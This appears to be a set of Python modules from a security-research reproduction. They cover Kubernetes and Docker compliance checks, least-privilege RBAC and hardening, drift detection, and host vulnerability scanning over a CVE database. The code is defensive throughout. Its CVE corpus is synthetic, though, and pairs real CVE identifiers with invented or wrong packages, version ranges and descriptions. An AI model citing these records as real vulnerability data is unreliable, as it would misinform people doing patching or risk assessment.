    report.add("2.5", "no insecure registries",
               not config.insecure_registries, risk_id="insecure-registry")
    report.add("4.5", "content trust enabled", config.content_trust,
               risk_id="no-content-trust")
    report.add("2.13", "centralized logging configured",
               config.log_driver_configured, risk_id="no-log-driver")
    report.add("2.6", "TLS on the daemon socket", config.tls_on_daemon_socket,
               risk_id="daemon-socket-plaintext")

    for container in runtime.containers.values():
        prefix = container.spec.name or container.id
        report.add(f"5.4:{prefix}", "container not privileged",
                   not container.spec.privileged, risk_id="privileged-pod")
        report.add(f"5.10:{prefix}", "memory limit set",
                   container.spec.limits.memory_mb is not None,
                   risk_id="unbounded-resources")
        report.add(f"5.25:{prefix}", "no-new-privileges set",
                   container.spec.no_new_privileges,
                   risk_id="privilege-escalation")
        sensitive = [m.host_path for m in container.spec.mounts if m.sensitive]
        report.add(f"5.5:{prefix}", "no sensitive host mounts",
                   not sensitive, detail=", ".join(sensitive),
                   risk_id="hostpath-mount")
        report.add(f"4.1:{prefix}", "image does not run as root",
                   container.spec.image.user != "root", risk_id="root-container")
    return report


# ---------------------------------------------------------------------------
# The suite: Lesson 5's union
# ---------------------------------------------------------------------------

class ComplianceSuite:
    """Runs every checker and reports per-tool and union risk coverage."""

    def __init__(self, cluster: KubeCluster,
                 runtimes: Sequence[ContainerRuntime] = ()) -> None:
        self.cluster = cluster
        self.runtimes = list(runtimes)

    def run(self) -> Dict[str, ComplianceReport]:
        reports = {
            "kube-bench": kube_bench(self.cluster),
            "kubesec": kubesec(self.cluster),
            "kube-hunter": kube_hunter(self.cluster),
            "kubescape": kubescape(self.cluster),
        }
        for index, runtime in enumerate(self.runtimes):
            reports[f"docker-bench[{runtime.node_name}]"] = docker_bench(runtime)
        return reports

    def coverage_analysis(self) -> Dict[str, object]:
        """Per-tool risk coverage vs. the union (the Lesson 5 numbers)."""
        reports = self.run()
        per_tool = {name: report.risks_covered()
                    for name, report in reports.items()}
        union: Set[str] = set()
        for risks in per_tool.values():
            union |= risks
        return {
            "per_tool": {name: sorted(risks) for name, risks in per_tool.items()},
            "per_tool_count": {name: len(risks) for name, risks in per_tool.items()},
            "union": sorted(union),
            "union_count": len(union),
            "max_single_tool": max((len(r) for r in per_tool.values()),
                                   default=0),
        }

"""M10: least privilege across the middleware stack.

The paper's rule: each role and service holds only the permissions its
legitimate GENIO workflow needs. The workflows are:

* **tenant workloads** read their own configuration and nothing else;
* **tenant deployers** manage deployments/pods in their own namespace;
* **platform operators** administer ``kube-system`` and the nodes, but do
  not read tenant secrets;
* **SDN management** gets device registration, network configuration,
  flow programming and diagnostic logging — never shell access, debug
  endpoints or raw log retrieval;
* **VOLTHA administration** is restricted to TLS-certificate service
  accounts.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence

from repro.orchestrator.kube.apiserver import ApiServerConfig
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.rbac import (
    PolicyRule, RbacAuthorizer, Role, RoleBinding, Subject,
)
from repro.orchestrator.proxmox import ProxmoxCluster
from repro.sdn.controller import (
    PRODUCTION_REQUIRED, ApiAccount, ApiCapability, SdnController,
)
from repro.sdn.voltha import ServiceAccount as VolthaAccount, VolthaCore


def genio_least_privilege_rbac(
    tenant_namespaces: Sequence[str] = ("tenant-a", "tenant-b"),
    operators: Sequence[str] = ("ops-alice", "ops-bob"),
) -> RbacAuthorizer:
    """Build the M10 RBAC state for a GENIO cluster."""
    rbac = RbacAuthorizer()

    # Tenant workload identity: read own config, nothing else.
    for namespace in tenant_namespaces:
        rbac.add_role(Role(
            name="workload", namespace=namespace,
            rules=[PolicyRule(("get", "list"), ("configmaps",))]))
        rbac.bind(RoleBinding(
            name=f"workload-{namespace}", role_name="workload",
            namespace=namespace,
            subjects=[Subject("ServiceAccount", f"{namespace}:default")]))

        # Tenant deployer: manage its own application objects.
        rbac.add_role(Role(
            name="deployer", namespace=namespace,
            rules=[
                PolicyRule(("get", "list", "watch", "create", "update",
                            "patch", "delete"),
                           ("deployments", "pods", "services", "configmaps")),
                PolicyRule(("get", "list"), ("pods/log", "events")),
            ]))
        rbac.bind(RoleBinding(
            name=f"deployer-{namespace}", role_name="deployer",
            namespace=namespace,
            subjects=[Subject("ServiceAccount", f"{namespace}:deployer")]))

    # Platform operators: admin in kube-system, read elsewhere, no secrets.
    rbac.add_role(Role(
        name="platform-operator", namespace="kube-system",
        rules=[PolicyRule(("*",), ("pods", "deployments", "services",
                                   "configmaps", "nodes", "networkpolicies"))]))
    rbac.add_role(Role(
        name="cluster-viewer", cluster_wide=True,
        rules=[PolicyRule(("get", "list", "watch"),
                          ("pods", "deployments", "services", "events"))]))
    for operator in operators:
        rbac.bind(RoleBinding(
            name=f"operator-{operator}", role_name="platform-operator",
            namespace="kube-system", subjects=[Subject("User", operator)]))
        rbac.bind(RoleBinding(
            name=f"viewer-{operator}", role_name="cluster-viewer",
            cluster_wide=True, subjects=[Subject("User", operator)]))
    return rbac


def tighten_cluster(cluster: KubeCluster,
                    tenant_namespaces: Sequence[str] = ("tenant-a", "tenant-b"),
                    operators: Sequence[str] = ("ops-alice", "ops-bob")) -> None:
    """Apply M10 + control-plane hardening to a cluster in place."""
    cluster.api.rbac = genio_least_privilege_rbac(tenant_namespaces, operators)
    config = cluster.api.config
    config.anonymous_auth = False
    config.insecure_port_enabled = False
    config.tls_enabled = True
    config.audit_logging = True
    config.etcd_encryption = True
    config.authorization_mode = "RBAC"
    cluster.api.add_admission_controller(
        "PodSecurity", _pod_security_admission(set(tenant_namespaces)))


def _pod_security_admission(restricted_namespaces):
    """Admission controller enforcing a restricted profile on tenants."""
    from repro.orchestrator.kube.objects import PodSpec

    def controller(verb: str, resource: str, obj: object) -> Optional[str]:
        if resource != "pods" or not isinstance(obj, PodSpec):
            return None
        if obj.namespace not in restricted_namespaces:
            return None
        if obj.security.privileged:
            return "privileged pods are forbidden in tenant namespaces"
        if obj.host_network or obj.host_pid:
            return "host namespaces are forbidden in tenant namespaces"
        if obj.host_path_volumes:
            return "hostPath volumes are forbidden in tenant namespaces"
        if obj.security.added_capabilities:
            return "added capabilities are forbidden in tenant namespaces"
        return None

    return controller


def harden_sdn_controller(controller: SdnController,
                          mgmt_cert_fp: str = "fp-genio-mgmt") -> ApiAccount:
    """Apply M10 to an ONOS-like controller (Lesson 5's 'straightforward'
    case: required capabilities are well-defined)."""
    controller.remove_account("onos")
    account = ApiAccount(username="genio-mgmt",
                         tls_certificate_fp=mgmt_cert_fp,
                         capabilities=set(PRODUCTION_REQUIRED))
    controller.add_account(account)
    controller.require_tls()
    for capability in (ApiCapability.SHELL_ACCESS,
                       ApiCapability.LOW_LEVEL_DEBUG,
                       ApiCapability.RAW_LOG_RETRIEVAL):
        controller.block_capability(capability)
    for app in ("org.onosproject.gui2", "org.onosproject.cli"):
        controller.deactivate_app(app)
    return account


def harden_voltha(voltha: VolthaCore,
                  admin_cert_fp: str = "fp-genio-voltha") -> VolthaAccount:
    """Restrict VOLTHA management to TLS-certificate admin accounts."""
    account = VolthaAccount("genio-voltha-admin", admin_cert_fp, admin=True)
    voltha.add_account(account)
    voltha.enforce_client_certs()
    return account


def harden_proxmox(pve: ProxmoxCluster,
                   vm_admins: Sequence[str] = ("alice@pve",),
                   auditors: Sequence[str] = ("auditor@pve",)) -> None:
    """Scope Proxmox ACLs and fix its insecure cluster settings."""
    pve.config.web_ui_tls = True
    pve.config.two_factor_required = True
    pve.config.root_password_login = False
    for userid in vm_admins:
        pve.revoke_all(userid)
        for node in pve.hypervisors:
            pve.grant(f"/nodes/{node}", userid, "PVEVMAdmin")
        pve.grant("/vms", userid, "PVEVMAdmin")
    for userid in auditors:
        pve.revoke_all(userid)
        pve.grant("/", userid, "PVEAuditor")

"""Configuration-drift detection (part of M11).

The paper: GENIO "continuously audits configurations to maintain
compliance" and follows vendor guidance to "detect configuration drift".
The detector snapshots a compliance suite's results as the approved
baseline; later runs diff against it, separating *regressions* (checks
that flipped pass->fail: somebody loosened something) from *improvements*
and *new checks* (new pods bring new per-pod checks).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.security.access.compliance import ComplianceReport, ComplianceSuite


@dataclass
class DriftFinding:
    """One check whose outcome changed against the baseline."""

    framework: str
    check_id: str
    description: str
    change: str       # "regressed" | "improved" | "appeared" | "disappeared"
    detail: str = ""


@dataclass
class DriftReport:
    """One drift-detection run."""

    findings: List[DriftFinding] = field(default_factory=list)

    @property
    def regressions(self) -> List[DriftFinding]:
        return [f for f in self.findings if f.change == "regressed"]

    @property
    def clean(self) -> bool:
        return not self.regressions


class DriftDetector:
    """Baseline + diff over a compliance suite."""

    def __init__(self, suite: ComplianceSuite) -> None:
        self.suite = suite
        self._baseline: Optional[Dict[Tuple[str, str], Tuple[bool, str]]] = None

    @staticmethod
    def _flatten(reports: Dict[str, ComplianceReport]
                 ) -> Dict[Tuple[str, str], Tuple[bool, str]]:
        flat: Dict[Tuple[str, str], Tuple[bool, str]] = {}
        for framework, report in reports.items():
            for check in report.checks:
                flat[(framework, check.check_id)] = (check.passed,
                                                     check.description)
        return flat

    def baseline(self) -> int:
        """Approve the current state; returns the number of checks."""
        self._baseline = self._flatten(self.suite.run())
        return len(self._baseline)

    def check(self) -> DriftReport:
        """Diff current state against the approved baseline.

        :raises ValueError: no baseline approved yet.
        """
        if self._baseline is None:
            raise ValueError("no approved baseline; call baseline() first")
        current = self._flatten(self.suite.run())
        report = DriftReport()
        for key, (passed, description) in current.items():
            framework, check_id = key
            if key not in self._baseline:
                report.findings.append(DriftFinding(
                    framework, check_id, description, "appeared",
                    detail="pass" if passed else "FAILING"))
                continue
            was_passing, _ = self._baseline[key]
            if was_passing and not passed:
                report.findings.append(DriftFinding(
                    framework, check_id, description, "regressed"))
            elif not was_passing and passed:
                report.findings.append(DriftFinding(
                    framework, check_id, description, "improved"))
        for key, (_, description) in self._baseline.items():
            if key not in current:
                framework, check_id = key
                report.findings.append(DriftFinding(
                    framework, check_id, description, "disappeared"))
        return report

"""M10/M11: middleware access control and guideline compliance (Section V-A).

* :mod:`repro.security.access.leastprivilege` — replaces insecure-default
  RBAC/ACL/credential state across Kubernetes, Proxmox, ONOS and VOLTHA
  with least-privilege configurations tailored to GENIO's workflows.
* :mod:`repro.security.access.compliance` — the five community checkers
  (docker-bench, kube-bench, kubesec, kube-hunter, kubescape), each
  covering only a subset of the risks; Lesson 5's point is that the
  *union* matters.
"""

from repro.security.access.leastprivilege import (
    genio_least_privilege_rbac, harden_proxmox, harden_sdn_controller,
    harden_voltha, tighten_cluster,
)
from repro.security.access.compliance import (
    ComplianceCheck, ComplianceReport, ComplianceSuite,
    docker_bench, kube_bench, kube_hunter, kubescape, kubesec,
)

__all__ = [
    "genio_least_privilege_rbac",
    "harden_proxmox",
    "harden_sdn_controller",
    "harden_voltha",
    "tighten_cluster",
    "ComplianceCheck",
    "ComplianceReport",
    "ComplianceSuite",
    "docker_bench",
    "kube_bench",
    "kube_hunter",
    "kubescape",
    "kubesec",
]

"""M8/M12: vulnerability management (Sections IV-D and V-B of the paper).

* :mod:`repro.security.vulnmgmt.cvedb` — CVE records with CVSS scoring
  and affected-version ranges; the offline stand-in for NVD data.
* :mod:`repro.security.vulnmgmt.corpus` — the synthetic-but-realistic
  CVE corpus used by scanners and experiments.
* :mod:`repro.security.vulnmgmt.hostscan` — the Vuls/Lynis-like host
  scanner matching installed packages and the kernel against the corpus,
  with prioritisation by severity and exploitability (M8).
* :mod:`repro.security.vulnmgmt.feeds` — the fragmented middleware feed
  landscape (structured Kubernetes feed, blog posts, web-UI-only,
  NVD API) and the time-to-awareness model behind Lesson 6 (M12).
* :mod:`repro.security.vulnmgmt.kbom` — the Kubernetes Bill of Materials
  generator and precision matching (M12).
"""

from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord, Severity
from repro.security.vulnmgmt.corpus import build_cve_corpus
from repro.security.vulnmgmt.hostscan import HostScanner, ScanFinding, ScanReport
from repro.security.vulnmgmt.feeds import (
    BlogFeed, FeedAggregator, NvdApiFeed, StaleFeed, StructuredFeed, WebUiFeed,
    genio_feed_landscape,
)
from repro.security.vulnmgmt.kbom import KbomComponent, generate_kbom, match_kbom

__all__ = [
    "CveDatabase",
    "CveRecord",
    "Severity",
    "build_cve_corpus",
    "HostScanner",
    "ScanFinding",
    "ScanReport",
    "BlogFeed",
    "FeedAggregator",
    "NvdApiFeed",
    "StaleFeed",
    "StructuredFeed",
    "WebUiFeed",
    "genio_feed_landscape",
    "KbomComponent",
    "generate_kbom",
    "match_kbom",
]

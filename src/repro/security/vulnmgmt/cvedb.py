"""CVE records and the queryable database.

Each record names an affected package (in some ecosystem: debian, k8s
component, pypi...), an affected version range ``[introduced, fixed)``,
a CVSS score, exploitability, and the publication timestamp used by the
feed-latency experiments.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

from repro.osmodel.packages import version_in_range


class Severity(enum.Enum):
    LOW = "LOW"
    MEDIUM = "MEDIUM"
    HIGH = "HIGH"
    CRITICAL = "CRITICAL"

    @staticmethod
    def from_cvss(score: float) -> "Severity":
        if score >= 9.0:
            return Severity.CRITICAL
        if score >= 7.0:
            return Severity.HIGH
        if score >= 4.0:
            return Severity.MEDIUM
        return Severity.LOW


@dataclass(frozen=True)
class CveRecord:
    """One vulnerability."""

    cve_id: str
    package: str
    ecosystem: str                 # debian | kernel | k8s | pypi | middleware
    introduced: Optional[str]      # inclusive, None = forever
    fixed: Optional[str]           # exclusive, None = unfixed
    cvss: float
    summary: str = ""
    exploit_available: bool = False
    published_at: float = 0.0      # simulated seconds since epoch

    @property
    def severity(self) -> Severity:
        return Severity.from_cvss(self.cvss)

    def affects(self, package: str, version: str,
                ecosystem: Optional[str] = None) -> bool:
        if package != self.package:
            return False
        if ecosystem is not None and ecosystem != self.ecosystem:
            return False
        return version_in_range(version, self.introduced, self.fixed)

    @property
    def priority(self) -> float:
        """The M8 prioritisation metric: severity weighted by exploitability."""
        return self.cvss * (1.5 if self.exploit_available else 1.0)


class CveDatabase:
    """Queryable collection of CVE records."""

    def __init__(self, records: Optional[Iterable[CveRecord]] = None) -> None:
        self._records: List[CveRecord] = list(records or [])
        self._by_package: Dict[Tuple[str, str], List[CveRecord]] = {}
        for record in self._records:
            self._index(record)

    def _index(self, record: CveRecord) -> None:
        self._by_package.setdefault((record.ecosystem, record.package),
                                    []).append(record)

    def add(self, record: CveRecord) -> None:
        self._records.append(record)
        self._index(record)

    def __len__(self) -> int:
        return len(self._records)

    def all(self) -> List[CveRecord]:
        return list(self._records)

    def get(self, cve_id: str) -> Optional[CveRecord]:
        for record in self._records:
            if record.cve_id == cve_id:
                return record
        return None

    def matching(self, package: str, version: str,
                 ecosystem: str) -> List[CveRecord]:
        """CVEs affecting one (package, version) in an ecosystem."""
        candidates = self._by_package.get((ecosystem, package), [])
        return [r for r in candidates if r.affects(package, version, ecosystem)]

    def published_before(self, when: float) -> List[CveRecord]:
        return [r for r in self._records if r.published_at <= when]

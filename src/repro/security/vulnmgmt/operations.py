"""Operational vulnerability management over simulated time.

Lesson 6's closing point is about *time*: "delays that extend the attack
window in production environments". This module runs the whole loop on
the simulation clock — CVEs publish over the weeks, awareness arrives via
whatever feed covers each component, and a periodic patch cycle applies
fixes — so the attack window (publication -> patch) becomes a measurable
quantity per feed source and patch cadence. The E15 ablation sweeps the
cadence.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

from repro.common.clock import SimClock
from repro.common.sim import PeriodicTask, Scheduler
from repro.osmodel.host import Host
from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord
from repro.security.vulnmgmt.feeds import FeedAggregator
from repro.security.vulnmgmt.hostscan import HostScanner, ScanFinding

_DAY = 86400.0


@dataclass
class CveLifecycle:
    """One CVE's journey from publication to remediation."""

    cve_id: str
    package: str
    published_at: float
    aware_at: Optional[float] = None
    aware_via: str = ""
    patched_at: Optional[float] = None
    patchable: bool = True

    @property
    def attack_window_days(self) -> Optional[float]:
        """Days the platform stayed exposed after public disclosure."""
        if self.patched_at is None:
            return None
        return (self.patched_at - self.published_at) / _DAY

    @property
    def awareness_lag_days(self) -> Optional[float]:
        if self.aware_at is None:
            return None
        return (self.aware_at - self.published_at) / _DAY


class VulnerabilityOperations:
    """Runs scan-and-patch cycles on the simulation clock."""

    def __init__(self, host: Host, scanner: HostScanner,
                 aggregator: FeedAggregator,
                 clock: Optional[SimClock] = None,
                 patch_cadence_days: float = 7.0) -> None:
        if patch_cadence_days <= 0:
            raise ValueError("patch cadence must be positive")
        self.host = host
        self.scanner = scanner
        self.aggregator = aggregator
        self.clock = clock or SimClock()
        self.patch_cadence_days = patch_cadence_days
        self.lifecycles: Dict[str, CveLifecycle] = {}
        self.cycles_run = 0

    # -- one patch cycle -----------------------------------------------------

    def run_cycle(self) -> List[str]:
        """One scheduled maintenance window: scan, act on what the team is
        *aware of by now*, patch. Returns the CVE ids patched this cycle."""
        self.cycles_run += 1
        now = self.clock.now
        scan = self.scanner.scan(self.host, now=now)
        patched: List[str] = []
        for finding in scan.prioritized():
            lifecycle = self._lifecycle_for(finding)
            if lifecycle.aware_at is None or lifecycle.aware_at > now:
                continue            # nobody knows yet — fragmented feeds
            if lifecycle.patched_at is not None:
                continue
            if self.scanner.patch(self.host, finding):
                lifecycle.patched_at = now
                patched.append(lifecycle.cve_id)
            else:
                lifecycle.patchable = False
        return patched

    def _lifecycle_for(self, finding: ScanFinding) -> CveLifecycle:
        lifecycle = self.lifecycles.get(finding.cve.cve_id)
        if lifecycle is None:
            awareness = self.aggregator.awareness(finding.cve)
            lifecycle = CveLifecycle(
                cve_id=finding.cve.cve_id, package=finding.package,
                published_at=finding.cve.published_at,
                aware_at=awareness.aware_at, aware_via=awareness.via)
            self.lifecycles[finding.cve.cve_id] = lifecycle
        return lifecycle

    # -- the campaign -----------------------------------------------------------

    def schedule(self, scheduler: Scheduler, days: float) -> PeriodicTask:
        """Register the patch cadence as a periodic task on ``scheduler``.

        Does not advance time — the scheduler's owner batch-steps the
        whole world (patch cycles interleaved with traffic, rotation,
        monitoring) and reads :meth:`attack_window_stats` afterwards.
        """
        cadence_s = self.patch_cadence_days * _DAY
        end = scheduler.now + days * _DAY
        return scheduler.every(cadence_s, self.run_cycle,
                               name=f"vulnops/{self.host.hostname}", until=end)

    def run_for(self, days: float) -> None:
        """Advance simulated time, running cycles at the configured cadence."""
        engine = Scheduler(clock=self.clock)
        self.schedule(engine, days)
        engine.run_for(days * _DAY)

    # -- metrics -----------------------------------------------------------------

    def attack_window_stats(self) -> Dict[str, object]:
        """Mean attack window overall and per awareness source."""
        patched = [l for l in self.lifecycles.values()
                   if l.attack_window_days is not None]
        by_source: Dict[str, List[float]] = {}
        for lifecycle in patched:
            by_source.setdefault(lifecycle.aware_via, []).append(
                lifecycle.attack_window_days)
        unpatched = [l.cve_id for l in self.lifecycles.values()
                     if l.patched_at is None and l.patchable]
        return {
            "patched": len(patched),
            "unpatchable": sum(1 for l in self.lifecycles.values()
                               if not l.patchable),
            "still_exposed": unpatched,
            "mean_window_days": (sum(l.attack_window_days for l in patched)
                                 / len(patched)) if patched else None,
            "mean_window_by_source": {
                source: sum(values) / len(values)
                for source, values in by_source.items()
            },
        }

"""The synthetic CVE corpus.

Offline stand-in for NVD/vendor data: real CVE identifiers with
plausible affected ranges for the package versions the host presets and
cluster components carry. Versions in :mod:`repro.osmodel.presets` were
chosen so the stock ONL host is genuinely vulnerable and the patched
versions genuinely are not — giving the scanners real positives and real
negatives to be measured against (E8 precision/recall).
"""

from __future__ import annotations

from typing import List

from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord

_DAY = 86400.0


def build_cve_corpus() -> CveDatabase:
    """The full corpus: host packages, kernel, hypervisor, middleware, pypi."""
    records: List[CveRecord] = [
        # -- ONL / Debian 10 userspace ------------------------------------------
        CveRecord("CVE-2021-3712", "openssl", "debian", "1.1.1", "1.1.1l",
                  7.4, "read buffer overruns in X.509 processing",
                  exploit_available=False, published_at=10 * _DAY),
        CveRecord("CVE-2022-0778", "openssl", "debian", "1.0.2", "1.1.1n",
                  7.5, "BN_mod_sqrt infinite loop DoS",
                  exploit_available=True, published_at=40 * _DAY),
        CveRecord("CVE-2020-14145", "openssh-server", "debian", "5.7", "8.4p1",
                  5.9, "observable discrepancy in client",
                  published_at=5 * _DAY),
        CveRecord("CVE-2021-3156", "sudo", "debian", "1.8.2", "1.9.5p2",
                  7.8, "Baron Samedit heap overflow -> root",
                  exploit_available=True, published_at=15 * _DAY),
        CveRecord("CVE-2019-18276", "bash", "debian", "1.0", "5.1",
                  7.8, "setuid privilege retention",
                  published_at=2 * _DAY),
        CveRecord("CVE-2021-33910", "systemd", "debian", "220", "249",
                  5.5, "stack exhaustion in mount handling",
                  exploit_available=True, published_at=25 * _DAY),
        CveRecord("CVE-2021-22946", "curl", "debian", "7.20.0", "7.79.0",
                  7.5, "protocol downgrade leaks credentials",
                  published_at=30 * _DAY),
        CveRecord("CVE-2023-4911", "libc6", "debian", "2.23", "2.39",
                  7.8, "Looney Tunables ld.so buffer overflow",
                  exploit_available=True, published_at=55 * _DAY),
        CveRecord("CVE-2020-15778", "openssh-server", "debian", "5.7", "8.4p1",
                  7.8, "scp command injection", exploit_available=True,
                  published_at=8 * _DAY),
        CveRecord("CVE-2019-5736", "busybox", "debian", "1.0", "1.31.0",
                  6.5, "applet path traversal (modelled)",
                  published_at=3 * _DAY),
        CveRecord("CVE-2020-11868", "ntp", "debian", "4.2.0", "4.2.8p14",
                  7.5, "unauthenticated peer DoS", published_at=12 * _DAY),
        # telnet/tftp: ancient, permanently vulnerable
        CveRecord("CVE-2020-10188", "telnetd", "debian", None, None,
                  9.8, "remote code execution in telnetd",
                  exploit_available=True, published_at=1 * _DAY),
        CveRecord("CVE-2020-8903", "tftpd-hpa", "debian", None, "5.3",
                  8.1, "unauthenticated file write", published_at=6 * _DAY),
        CveRecord("CVE-2021-36368", "openvswitch-switch", "debian",
                  "2.0", "2.13.0", 6.5, "flow table poisoning (modelled)",
                  published_at=20 * _DAY),
        # -- kernel -------------------------------------------------------------------
        CveRecord("CVE-2022-0847", "linux-kernel", "kernel", "5.8", "5.16.11",
                  7.8, "Dirty Pipe page-cache overwrite",
                  exploit_available=True, published_at=45 * _DAY),
        CveRecord("CVE-2021-33909", "linux-kernel", "kernel", "3.16", "5.13.4",
                  7.8, "Sequoia size_t-to-int conversion -> root",
                  exploit_available=True, published_at=22 * _DAY),
        CveRecord("CVE-2019-11477", "linux-kernel", "kernel", "2.6.29", "5.1.11",
                  7.5, "SACK Panic remote DoS", exploit_available=True,
                  published_at=4 * _DAY),
        # -- hypervisor ----------------------------------------------------------------
        CveRecord("CVE-2019-14378", "qemu-kvm", "middleware", "2.0", "4.1.1",
                  8.8, "SLIRP heap overflow: guest-to-host escape",
                  exploit_available=True, published_at=7 * _DAY),
        # -- Kubernetes (the structured-feed ecosystem) -----------------------------------
        CveRecord("CVE-2022-3172", "kube-apiserver", "k8s", "1.6", "1.24.5",
                  8.2, "aggregated API server redirect",
                  published_at=50 * _DAY),
        CveRecord("CVE-2021-25741", "kubelet", "k8s", "1.19", "1.22.2",
                  8.1, "symlink exchange host filesystem access",
                  exploit_available=True, published_at=28 * _DAY),
        CveRecord("CVE-2020-8558", "kube-proxy", "k8s", "1.1", "1.18.4",
                  5.4, "node-local services reachable from adjacent hosts",
                  published_at=9 * _DAY),
        CveRecord("CVE-2021-30465", "containerd", "middleware", "1.0", "1.4.5",
                  8.5, "runc mount-race container escape (modelled)",
                  exploit_available=True, published_at=18 * _DAY),
        CveRecord("CVE-2022-23648", "containerd", "middleware", "1.0", "1.6.1",
                  7.5, "image volume path traversal",
                  published_at=42 * _DAY),
        CveRecord("CVE-2021-20291", "coredns", "k8s", "1.0", "1.8.4",
                  6.5, "cache poisoning (modelled)", published_at=16 * _DAY),
        # -- Proxmox / ONOS (UI-only / stale feeds) ----------------------------------------
        CveRecord("CVE-2022-35508", "proxmox-ve", "middleware", "6.0", "7.2-5",
                  8.8, "TOTP brute force in proxmox login",
                  published_at=48 * _DAY),
        CveRecord("CVE-2021-38363", "onos", "middleware", "1.0", "2.8.0",
                  6.5, "REST API improper authorization (modelled)",
                  published_at=26 * _DAY),
        CveRecord("CVE-2019-16300", "onos", "middleware", "1.0", "2.3.0",
                  9.8, "deserialization RCE in ONOS northbound",
                  exploit_available=True, published_at=5 * _DAY),
        # -- python/pypi application deps (SCA surface) --------------------------------------
        CveRecord("CVE-2021-33503", "urllib3", "pypi", "1.0", "1.26.5",
                  7.5, "catastrophic regex in proxy handling",
                  published_at=21 * _DAY),
        CveRecord("CVE-2022-23833", "django", "pypi", "2.2", "3.2.12",
                  7.5, "multipart parsing infinite loop",
                  published_at=41 * _DAY),
        CveRecord("CVE-2021-23727", "celery", "pypi", "1.0", "5.2.2",
                  7.5, "pickle deserialization in result backend",
                  exploit_available=True, published_at=33 * _DAY),
        CveRecord("CVE-2019-14234", "django", "pypi", "2.0", "2.2.4",
                  9.8, "SQL injection via JSONField key transform",
                  exploit_available=True, published_at=2 * _DAY),
        CveRecord("CVE-2020-28493", "jinja2", "pypi", "0.0", "2.11.3",
                  5.3, "ReDoS in urlize", published_at=14 * _DAY),
        CveRecord("CVE-2022-21699", "ipython", "pypi", "1.0", "7.31.1",
                  8.8, "cwd profile execution", published_at=39 * _DAY),
        CveRecord("CVE-2021-29921", "python3", "debian", "3.0", "3.9.5",
                  9.8, "ipaddress leading-zero parsing bypass",
                  published_at=19 * _DAY),
        CveRecord("CVE-2021-3177", "python3", "debian", "3.0", "3.8.8",
                  9.8, "ctypes buffer overflow", exploit_available=True,
                  published_at=11 * _DAY),
    ]
    return CveDatabase(records)

"""Vuls/Lynis/OpenSCAP-style host vulnerability scanning (M8).

Matches a host's installed packages and kernel version against the CVE
database, prioritises findings by severity and exploitability, and can
apply patches (upgrading the package to the fixed version) in priority
order — the paper's "critical patches applied as soon as feasible".

Lesson 4's "occasional manual tuning for non-standard paths" is modelled:
ONL's platform packages (``onlp``, ``openvswitch-switch`` under a vendor
prefix) are missed unless the scanner is configured with the ONL package
aliases.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.common import telemetry
from repro.osmodel.host import Host
from repro.osmodel.packages import Package
from repro.security.vulnmgmt.cvedb import CveDatabase, CveRecord, Severity

# Non-standard ONL package naming the default scanner config does not know.
ONL_PACKAGE_ALIASES: Dict[str, str] = {
    "openvswitch-switch": "openvswitch-switch",
    "onlp": "onlp",
}


@dataclass
class ScanFinding:
    """One vulnerable (package, CVE) pair on a host."""

    cve: CveRecord
    package: str
    installed_version: str

    @property
    def priority(self) -> float:
        return self.cve.priority


@dataclass
class ScanReport:
    """One scan run."""

    host: str
    findings: List[ScanFinding] = field(default_factory=list)
    packages_scanned: int = 0
    packages_skipped: List[str] = field(default_factory=list)

    def prioritized(self) -> List[ScanFinding]:
        return sorted(self.findings, key=lambda f: -f.priority)

    def by_severity(self) -> Dict[Severity, int]:
        counts = {severity: 0 for severity in Severity}
        for finding in self.findings:
            counts[finding.cve.severity] += 1
        return counts

    @property
    def critical_or_exploitable(self) -> List[ScanFinding]:
        return [f for f in self.findings
                if f.cve.severity is Severity.CRITICAL or f.cve.exploit_available]


class HostScanner:
    """The M8 scanner."""

    def __init__(self, cvedb: CveDatabase,
                 package_aliases: Optional[Dict[str, str]] = None,
                 kernel_cve_version: str = "4.19.0") -> None:
        self.cvedb = cvedb
        # alias map: installed name -> CVE-database name. Without the ONL
        # aliases, platform packages are skipped (Lesson 4's manual tuning).
        self.package_aliases = dict(package_aliases or {})
        self.kernel_cve_version = kernel_cve_version
        metrics = telemetry.active_registry()
        self._metrics = metrics
        if metrics is not None:
            self._scans_counter = metrics.counter(
                "vuln_scans_total", "Host vulnerability scans performed.")
            self._packages_counter = metrics.counter(
                "vuln_packages_scanned_total",
                "Packages matched against the CVE database.")
            self._findings_counter = metrics.counter(
                "vuln_findings_total", "CVE findings reported, by severity.",
                ("severity",))
            self._patches_counter = metrics.counter(
                "vuln_patches_applied_total", "Patches successfully applied.")
            self._scan_duration = metrics.histogram(
                "vuln_scan_duration_seconds",
                "Wall-clock duration of one host scan.")

    def scan(self, host: Host, now: Optional[float] = None) -> ScanReport:
        """Scan packages + kernel; ``now`` limits to already-published CVEs."""
        started = time.perf_counter()
        report = ScanReport(host=host.hostname)
        for package in host.packages.installed():
            name = self._resolve_name(package)
            if name is None:
                report.packages_skipped.append(package.name)
                continue
            report.packages_scanned += 1
            for cve in self.cvedb.matching(name, package.version, "debian"):
                if now is not None and cve.published_at > now:
                    continue
                report.findings.append(ScanFinding(
                    cve=cve, package=package.name,
                    installed_version=package.version))
        kernel_version = host.kernel.version.split("-")[0] or self.kernel_cve_version
        for cve in self.cvedb.matching("linux-kernel", kernel_version, "kernel"):
            if now is not None and cve.published_at > now:
                continue
            report.findings.append(ScanFinding(
                cve=cve, package="linux-kernel",
                installed_version=host.kernel.version))
        if self._metrics is not None:
            self._scans_counter.inc()
            self._packages_counter.inc(report.packages_scanned)
            for finding in report.findings:
                self._findings_counter.inc(
                    severity=finding.cve.severity.name.lower())
            self._scan_duration.observe(time.perf_counter() - started)
        return report

    def _resolve_name(self, package: Package) -> Optional[str]:
        """Map an installed package to its CVE-database name.

        Standard Debian names resolve directly; ONL vendor packages need
        an explicit alias or they are skipped.
        """
        if package.name in self.package_aliases:
            return self.package_aliases[package.name]
        if package.name in ("onlp", "openvswitch-switch"):
            return None   # non-standard ONL path: needs manual tuning
        return package.name

